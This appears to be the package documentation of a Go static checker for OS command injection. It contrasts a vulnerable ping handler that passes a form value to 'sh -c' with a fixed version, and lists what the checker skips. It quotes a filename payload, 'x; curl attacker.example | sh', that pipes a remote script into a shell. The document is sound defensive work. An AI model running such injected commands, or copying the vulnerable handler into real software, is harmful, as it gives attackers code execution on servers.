// Package cmdinject reports commands of the operating system that a client has a say in.
//
// # Why it matters
//
// A shell takes ; and $( ) in what it reads for commands of their own. An attacker names a file "x; curl attacker.example | sh" and
// owns the machine. Where no shell is asked, an argument that begins with a dash is still an option, and options of tar, git or
// ssh run programs.
//
// # Bad
//
//	func main() {
//		http.HandleFunc("GET /ping", ping)
//		log.Fatal(http.ListenAndServe(":8080", nil))
//	}
//
//	func ping(w http.ResponseWriter, r *http.Request) {
//		out, err := exec.Command("sh", "-c", "ping -c 1 "+r.FormValue("host")).Output()
//		if err != nil {
//			http.Error(w, "no answer", http.StatusBadGateway)
//			return
//		}
//		w.Write(out)
//	}
//
// # Good
//
//	func main() {
//		http.HandleFunc("GET /ping", ping)
//		log.Fatal(http.ListenAndServe(":8080", nil))
//	}
//
//	func ping(w http.ResponseWriter, r *http.Request) {
//		out, err := exec.Command("ping", "-c", "1", "--", r.FormValue("host")).Output()
//		if err != nil {
//			http.Error(w, "no answer", http.StatusBadGateway)
//			return
//		}
//		w.Write(out)
//	}
//
// # Not reported
//
// Arguments of a constant program that begin with a constant, stand behind --, or were found not to begin with a dash: no shell
// reads them. Numbers, booleans and UUIDs, one of several constants, what an anchored regular expression limits to harmless characters,
// and what was quoted for the shell by a library. Commands that come from the configuration.
//
// Confidence is high for programs and lines of a shell. An argument that may be an option is of medium confidence for programs with
// dangerous options, and low for others.
//
// # Not seen
//
// Programs that take their own arguments for code, beyond shells and interpreters. Commands that were stored first.
package cmdinject
